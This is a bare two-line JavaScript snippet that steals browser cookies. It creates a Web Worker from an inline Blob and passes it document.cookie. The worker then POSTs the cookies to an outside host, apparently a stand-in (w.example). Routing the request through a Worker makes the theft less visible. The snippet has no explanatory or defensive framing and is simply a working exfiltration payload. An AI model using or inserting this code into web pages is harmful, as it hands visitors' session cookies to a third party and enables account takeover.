const w = new Worker(URL.createObjectURL(new Blob(['onmessage=e=>fetch("https://w.example",{method:"POST",body:e.data})'])));
w.postMessage(document.cookie);
